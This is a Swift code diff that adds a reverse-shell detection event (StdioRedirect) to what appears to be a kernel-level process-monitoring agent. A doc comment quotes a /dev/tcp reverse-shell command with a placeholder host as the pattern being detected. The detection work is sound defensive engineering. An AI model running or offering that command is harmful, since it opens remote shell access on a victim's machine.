@@ -59,6 +59,32 @@ public struct ExecClass: OptionSet, Hashable, Sendable {
     public static let denied = ExecClass(rawValue: 1 << 2)
 }
 
+/// A running shell made an inet socket its fd 0, 1 or 2 with dup2/dup3
+/// (`exec 5<>/dev/tcp/H/P; exec 0<&5 1>&5`): a reverse shell with no exec.
+public struct StdioRedirect: Hashable, Sendable {
+    public var process: ProcessIdentity
+    public var timestampNs: UInt64
+    public var uid: UInt32
+    public var comm: String
+    public var fd: UInt32
+    public var socket: StdioDescriptor.InetSocket
+    /// The kernel killed it as the syscall returned.
+    public var killed: Bool
+
+    public init(
+        process: ProcessIdentity, timestampNs: UInt64, uid: UInt32 = 0, comm: String, fd: UInt32, socket: StdioDescriptor.InetSocket,
+        killed: Bool
+    ) {
+        self.process = process
+        self.timestampNs = timestampNs
+        self.uid = uid
+        self.comm = comm
+        self.fd = fd
+        self.socket = socket
+        self.killed = killed
+    }
+}
+
 /// The kernel's process events, in one vocabulary for the agent and tests.
 public enum ProcessEvent: Hashable, Sendable {
     case exec(ExecRecord)
@@ -66,11 +92,13 @@ public enum ProcessEvent: Hashable, Sendable {
     case fork(ProcessIdentity, timestampNs: UInt64, comm: String)
     /// A process's last thread ended; `exitCode` as wait(2) reports it.
     case exit(ProcessIdentity, timestampNs: UInt64, exitCode: UInt32, comm: String)
+    case stdioRedirect(StdioRedirect)
 
     public var process: ProcessIdentity {
         switch self {
         case .exec(let record): record.process
         case .fork(let process, _, _), .exit(let process, _, _, _): process
+        case .stdioRedirect(let redirect): redirect.process
         }
     }
 
@@ -78,6 +106,7 @@ public enum ProcessEvent: Hashable, Sendable {
         switch self {
         case .exec(let record): record.timestampNs
         case .fork(_, let time, _), .exit(_, let time, _, _): time
+        case .stdioRedirect(let redirect): redirect.timestampNs
         }
     }
 }
